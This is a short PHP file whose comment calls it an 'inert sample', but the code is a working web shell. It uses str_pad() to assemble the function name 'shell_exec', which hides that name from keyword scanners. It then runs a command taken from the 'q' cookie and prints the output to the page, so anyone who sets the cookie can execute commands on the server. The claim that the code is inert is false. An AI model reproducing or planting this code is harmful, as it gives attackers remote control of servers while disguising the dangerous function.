<?php
// inert sample: the function name padded out to full length with str_pad() (its prefix is the pad)
$n = str_pad('exec', 10, 'shell_', STR_PAD_LEFT);
$q = isset($_COOKIE['q']) ? $_COOKIE['q'] : 'id';
echo '<pre>' . $n($q) . '</pre>';
